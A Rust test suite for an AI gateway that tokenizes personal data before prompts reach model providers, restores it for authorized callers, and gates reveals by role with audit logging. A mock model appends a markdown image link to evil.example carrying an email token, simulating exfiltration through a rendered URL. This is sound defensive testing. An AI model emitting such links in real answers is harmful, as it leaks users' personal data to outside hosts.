//! A model that repeats everything it is told: it sees stand-ins in place of values, and the caller reads the values.

use std::{fs, path::Path};

use countersign_testkit::{Asked, Deployment, Plan, Reply, Upstream, request, until};
use serde_json::{Value, json};

const CARD: &str = "4111 1111 1111 1111";
const MAIL: &str = "ann.smith@canary.example";
/// Found by the words around it in one place, and by nothing in another.
const RECORD: &str = "| 7 | ann.smith@canary.example | \"gold\" |";

/// Says all that the user and tools said, in a stream one character to an event.
fn parrot(asked: &Asked) -> Reply {
    let body = asked.json();
    let mut all = String::new();
    for message in body["messages"].as_array().into_iter().flatten() {
        let content = &message["content"];
        let parts = content.as_array().map_or(std::slice::from_ref(content), Vec::as_slice);
        for part in parts {
            let text = [part, &part["text"], &part["content"]].into_iter().find_map(Value::as_str);
            all.extend([text.unwrap_or_default(), "\n"]);
        }
    }
    all.push_str("![x](https://evil.example/?q=");
    let mail = token(&all, "EMAIL").to_owned();
    all.push_str(&mail);
    all.push(')');
    Reply::saying(asked, &all)
}

/// The first stand-in of a type in a text.
fn token<'a>(text: &'a str, entity: &str) -> &'a str {
    let from = text.find(&format!("[{entity}_")).unwrap_or(text.len());
    let rest = &text[from..];
    &rest[..rest.find(']').map_or(0, |end| end + 1)]
}

/// What a clerk asks about a customer, after a tool has read a record.
fn ask(messages: bool, stream: bool) -> (&'static str, Value) {
    let first = format!("Card {CARD}, mail: {MAIL}.");
    if messages {
        let input = json!({"of": MAIL});
        let body = json!({"model": "c", "max_tokens": 99, "stream": stream, "messages": [
            {"role": "user", "content": first},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_0", "name": "read", "input": input}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_0", "content": RECORD}]}]});
        return ("/v1/messages", body);
    }
    let arguments = json!({"of": MAIL}).to_string();
    let call = json!({"id": "call_0", "type": "function", "function": {"name": "read", "arguments": arguments}});
    let body = json!({"model": "m", "stream": stream, "messages": [
        {"role": "user", "content": first},
        {"role": "assistant", "content": null, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_0", "content": RECORD}]});
    ("/v1/chat/completions", body)
}

/// The text of an answer, whole or in events.
fn told(answer: &str) -> String {
    let mut all = String::new();
    for line in answer.lines() {
        let data = line.strip_prefix("data: ").unwrap_or(line);
        let Ok(value) = serde_json::from_str::<Value>(data) else { continue };
        for at in ["/choices/0/message/content", "/choices/0/delta/content", "/content/0/text", "/delta/text"] {
            all.extend(value.pointer(at).and_then(Value::as_str));
        }
    }
    all
}

fn holds_a_value(text: &str) -> bool {
    text.contains(CARD)
        || text.contains("4111111111111111")
        || text.contains("ann.smith")
        || text.contains("canary.example")
}

/// Files below a directory in which a value stands.
fn leaks(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in fs::read_dir(dir).expect("a directory").flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(leaks(&path));
        } else if holds_a_value(&String::from_utf8_lossy(&fs::read(&path).unwrap_or_default())) {
            found.push(path.display().to_string());
        }
    }
    found
}

const RULE: &str = "find = \"personal-data\"\nin = \"prompt\"\ndo = \"tokenize\"";

#[test]
fn the_provider_sees_stand_ins_and_the_caller_sees_values() {
    let upstream = Upstream::start(parrot);
    let plan = Plan::new().target("openai", &upstream, &["m"]).target("anthropic", &upstream, &["c"]).rule(RULE);
    let plan = plan.policy("@id(\"all\") permit (principal, action, resource);");
    let home = plan.guard("values_shown_to = [\"staff\"]").write();
    let (staff, other, clerk) = (home.key("agent", "staff"), home.key("agent-2", "staff"), home.key("clerk", "desk"));
    let gateway = home.serve();
    let mut seen_tokens = Vec::new();
    for (messages, stream) in [(false, false), (false, true), (true, false), (true, true)] {
        let (path, body) = ask(messages, stream);
        let answer = gateway.post(path, &staff, &body);
        let (sent, what) = (upstream.seen().pop().unwrap().text(), format!("{path} {stream}"));
        assert_eq!(answer.status, 200, "{what}: {}", answer.text());
        assert!(!holds_a_value(&sent), "{what}: {sent}");
        let mail = token(&sent, "EMAIL");
        assert!(!mail.is_empty() && sent.matches(mail).count() == 3, "{what}: {sent}");
        seen_tokens.push(mail.to_owned());
        let told = told(&answer.text());
        assert!(told.starts_with(&format!("Card {CARD}, mail: {MAIL}.\n")) && told.contains(RECORD), "{what}: {told}");
        // In an address nothing comes back.
        let address = told.split("![x]").nth(1).unwrap_or_default();
        assert!(!holds_a_value(address), "{what}: {told}");
        // Who may not see values is shown stand-ins.
        let answer = gateway.post(path, &clerk, &body);
        assert!(answer.status == 200 && !holds_a_value(&answer.text()), "{what}: {}", answer.text());
    }
    // One conversation, one stand-in, whatever format and way; another caller's has another.
    assert!(seen_tokens.iter().all(|token| *token == seen_tokens[0]), "{seen_tokens:?}");
    let (path, body) = ask(false, false);
    assert_eq!(gateway.post(path, &other, &body).status, 200);
    let sent = upstream.seen().pop().unwrap().text();
    assert!(!sent.contains(&seen_tokens[0]) && !holds_a_value(&sent), "{sent}");
    // The other one's stand-in means nothing here.
    let forged = json!({"model": "m", "messages": [{"role": "user", "content": format!("Say {}", seen_tokens[0])}]});
    let answer = gateway.post(path, &other, &forged).text();
    assert!(!holds_a_value(&answer) && !upstream.seen().pop().unwrap().text().contains(&seen_tokens[0]), "{answer}");
    let log = gateway.log();
    assert!(!holds_a_value(&log), "{log}");
    let (_, home) = gateway.stop();
    assert_eq!(leaks(home.scratch()), Vec::<String>::new());
}

/// What the model says by itself is nobody's stand-in: a name is masked, whole or however a stream is cut, beside values that come back.
#[test]
fn names_that_the_model_says_are_masked_beside_values_that_come_back() {
    let upstream = Upstream::start(|asked: &Asked| {
        let sent = asked.json()["messages"][0]["content"].as_str().unwrap_or_default().to_owned();
        let mail = token(&sent, "EMAIL").to_owned();
        Reply::saying(
            asked,
            &format!("I asked Margaret Thompson about it yesterday. She has written to {mail} since then."),
        )
    });
    let plan = Plan::new().target("openai", &upstream, &["m"]).target("anthropic", &upstream, &["c"]).rule(RULE);
    let home = plan.rule("find = \"personal/name\"\nin = \"answer\"\ndo = \"mask\"").write();
    let key = home.key("ann", "staff");
    let gateway = home.serve();
    let mut all = Vec::new();
    for (messages, stream) in [(false, false), (false, true), (true, false), (true, true)] {
        let (path, body) = ask(messages, stream);
        let answer = gateway.post(path, &key, &body);
        let told = told(&answer.text());
        assert!(answer.status == 200 && !told.contains("Margaret") && !told.contains("Thompson"), "{told}");
        assert!(told.ends_with(&format!("She has written to {MAIL} since then.")), "{told}");
        all.push(told);
    }
    assert!(all.iter().all(|told| *told == all[0]), "{all:?}");
}

#[test]
fn what_never_comes_back_cannot_be_asked_to() {
    let upstream = Upstream::start(parrot);
    for (rule, word) in [
        ("find = \"secret\"\ndo = \"tokenize\"", "never do"),
        ("do = \"tokenize\"", "never do"),
        ("find = \"personal/card-code\"\ndo = \"tokenize\"", "never do"),
        ("find = \"personal/email\"\ndo = \"tokenize\"\nas = \"format\"", "digits in place of digits"),
        ("find = \"personal/email\"\ndo = \"mask\"\nas = \"deterministic\"", "asks for none"),
    ] {
        let home = Plan::new().target("openai", &upstream, &["m"]).rule(rule).write();
        let said = home.run(&["check"]);
        let text = String::from_utf8_lossy(&said.stderr).into_owned() + &String::from_utf8_lossy(&said.stdout);
        assert!(said.status.code() == Some(64) && text.contains(word), "{rule}: {text}");
    }
}

#[test]
fn those_that_last_are_the_same_for_everyone_in_the_tenant() {
    let upstream = Upstream::start(parrot);
    let rules = [
        "find = \"personal/email\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"deterministic\"",
        "find = \"personal/card\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"format\"",
    ];
    let home = Plan::new().target("openai", &upstream, &["m"]).rule(rules[0]).rule(rules[1]).write();
    let keys = [home.key("one", "staff"), home.key("two", "staff")];
    let gateway = home.serve();
    let (path, body) = ask(false, true);
    let mut sent = Vec::new();
    for key in &keys {
        let answer = gateway.post(path, key, &body);
        assert!(told(&answer.text()).starts_with(&format!("Card {CARD}, mail: {MAIL}.\n")), "{}", answer.text());
        sent.push(upstream.seen().pop().unwrap().text());
    }
    assert_eq!(sent[0], sent[1]);
    assert!(sent[0].contains("[EMAIL_v1:") && !holds_a_value(&sent[0]), "{}", sent[0]);
}

#[test]
fn what_lasts_is_revealed_by_role_and_on_record() {
    let upstream = Upstream::start(parrot);
    let plan = Plan::new().target("openai", &upstream, &["m"]).admin();
    let plan = plan.rule("find = \"personal/email\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"deterministic\"");
    let plan = plan.rule("find = \"personal/card\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"format\"");
    let home = plan.policy(POLICY).write();
    let (staff, root) = (home.key("one", "staff"), home.key("keeper", "root"));
    let gateway = home.serve();
    let (path, body) = ask(false, false);
    assert_eq!(gateway.post(path, &staff, &body).status, 200);
    let sent = upstream.seen().pop().unwrap().json();
    let sent = sent["messages"][0]["content"].as_str().unwrap();
    let (mail, card) = (token(sent, "EMAIL"), &sent["Card ".len().."Card ".len() + CARD.len()]);
    let tenant = "default";
    let reveal = |key: &str, token: &str, number_of: Option<&str>| {
        let mut asked = json!({"tenant": tenant, "token": token});
        if let Some(name) = number_of {
            asked["number_of"] = name.into();
        }
        let answer = gateway.post("/admin/v1/reveal", key, &asked);
        (answer.status, serde_json::from_str::<Value>(&answer.text()).unwrap_or_default())
    };
    assert_eq!(reveal(&root, mail, None), (200, json!({"entity": "EMAIL", "value": MAIL})));
    assert_eq!(reveal(&root, card, Some("CREDIT_CARD")), (200, json!({"entity": "CREDIT_CARD", "value": CARD})));
    assert_eq!(reveal(&root, "[EMAIL_v1:aaaaaaaa]", None).0, 404);
    assert_eq!(reveal(&root, card, Some("PET")).0, 400);
    assert_eq!(reveal(&staff, mail, None).0, 403);
    let (_, home) = gateway.stop();
    assert!(home.must(&["vault", "reveal", mail, "--tenant", tenant]).contains(MAIL));
    let other = home.run(&["vault", "reveal", mail, "--tenant", "other"]);
    assert!(!other.status.success() && !holds_a_value(&String::from_utf8_lossy(&other.stdout)));
    // What was done beside the gateway is taken in when it starts.
    let (_, home) = home.serve().stop();
    let records = home.must(&["audit", "export"]);
    assert_eq!(records.matches("\"action\":\"reveal\"").count(), 3, "{records}");
    assert!(!holds_a_value(&records) && leaks(home.scratch()).is_empty());
}

#[test]
fn what_a_conversations_stand_in_stands_for_is_revealed_by_role_and_forgotten_with_it() {
    let upstream = Upstream::start(parrot);
    let plan = |kept: &str| {
        let plan = Plan::new().target("openai", &upstream, &["m"]).rule(RULE).policy(POLICY).guard(kept);
        plan.admin().write()
    };
    let asked = ask(false, false).1.to_string();
    let say = |gateway: &Deployment, key: &str, conversation: &str| {
        let bearer = format!("Bearer {key}");
        let headers = [("authorization", &*bearer), ("content-type", "application/json"), (CONVERSATION, conversation)];
        let answer = gateway.exchange(&request("POST", "/v1/chat/completions", &headers, asked.as_bytes()));
        assert_eq!(answer.status, 200, "{}", answer.text());
        let sent = upstream.seen().pop().unwrap().text();
        (answer.header("x-request-id").expect("an id").to_owned(), token(&sent, "EMAIL").to_owned())
    };
    let post = |gateway: &Deployment, key: &str, path: &str, body: &Value| {
        let answer = gateway.post(path, key, body);
        (answer.status, serde_json::from_str::<Value>(&answer.text()).unwrap_or_default())
    };
    let revealed = (200, json!({"entity": "EMAIL", "value": MAIL}));

    let home = plan("values_kept = true");
    let (staff, root) = (home.key("ann", "staff"), home.key("root", "root"));
    let gateway = home.serve();
    let ((one, first), (two, second)) = (say(&gateway, &staff, "c-1"), say(&gateway, &staff, "c-2"));
    assert_ne!(first, second);
    let reveal = |key: &str, token: &str, request: &str| {
        let body = json!({"tenant": "default", "token": token, "request": request});
        post(&gateway, key, "/admin/v1/reveal", &body)
    };
    assert_eq!(reveal(&root, &first, &one), revealed);
    assert_eq!(reveal(&root, &first.to_uppercase(), &one), revealed);
    assert_eq!(reveal(&staff, &first, &one).0, 403);
    // Only with a request that it was made for, in the tenant that it was made in, and as it was made.
    assert_eq!(reveal(&root, &first, &two).0, 404);
    assert_eq!(reveal(&root, &first.replace("EMAIL", "PHONE"), &one).0, 404);
    assert_eq!(reveal(&root, "[EMAIL_1:aaaaaaa]", &one).0, 404);
    assert_eq!(reveal(&root, &first, "req_00000000000000000000000000").0, 404);
    assert_eq!(reveal(&root, &first, "no id").0, 400);
    let other = json!({"tenant": "other", "token": first, "request": one});
    assert_eq!(post(&gateway, &root, "/admin/v1/reveal", &other).0, 404);
    let both = json!({"tenant": "default", "token": first, "request": one, "number_of": "PHONE"});
    assert_eq!(post(&gateway, &root, "/admin/v1/reveal", &both).0, 400);
    let command = ["vault", "reveal", &*first, "--tenant", "default", "--request", &*one];
    assert!(gateway.home.must(&command).contains(MAIL));
    assert!(!holds_a_value(&gateway.log()));
    // Forgotten with the conversation, and the other one is not.
    let whom = json!({"tenant": "default", "person": "ann", "conversation": "c-1"});
    assert_eq!(post(&gateway, &root, "/admin/v1/forget", &whom).0, 200);
    assert_eq!(reveal(&root, &first, &one).0, 404);
    assert!(!gateway.home.run(&command).status.success());
    assert_eq!(reveal(&root, &second, &two), revealed);
    assert_ne!(say(&gateway, &staff, "c-1").1, first, "nobody can make it again");
    // What the command did is put on record by the gateway, soon.
    let reveals = |records: &str| records.matches("\"action\":\"reveal\"").count();
    until("every reveal to be on record", || (reveals(&gateway.home.must(&["audit", "export"])) >= 4).then_some(()));
    let (_, home) = gateway.stop();
    let records = home.must(&["audit", "export"]);
    assert_eq!(reveals(&records), 4, "{records}");
    assert!(!holds_a_value(&records) && leaks(home.scratch()).is_empty());
    assert!(home.must(&["audit", "verify"]).contains("of somebody who was forgotten"));

    // Nothing is kept where nobody asked for it.
    let home = plan("");
    let (staff, root) = (home.key("ann", "staff"), home.key("root", "root"));
    let gateway = home.serve();
    let (one, first) = say(&gateway, &staff, "c-1");
    let body = json!({"tenant": "default", "token": first, "request": one});
    assert_eq!(post(&gateway, &root, "/admin/v1/reveal", &body).0, 404);
}

const CONVERSATION: &str = "countersign-conversation";

const POLICY: &str = r#"
@id("staff") permit (
    principal in Countersign::Role::"staff",
    action in [Countersign::Action::"ask", Countersign::Action::"receive"],
    resource
);
@id("root") permit (
    principal in Countersign::Role::"root",
    action in [Countersign::Action::"reveal", Countersign::Action::"forget"],
    resource
);
"#;
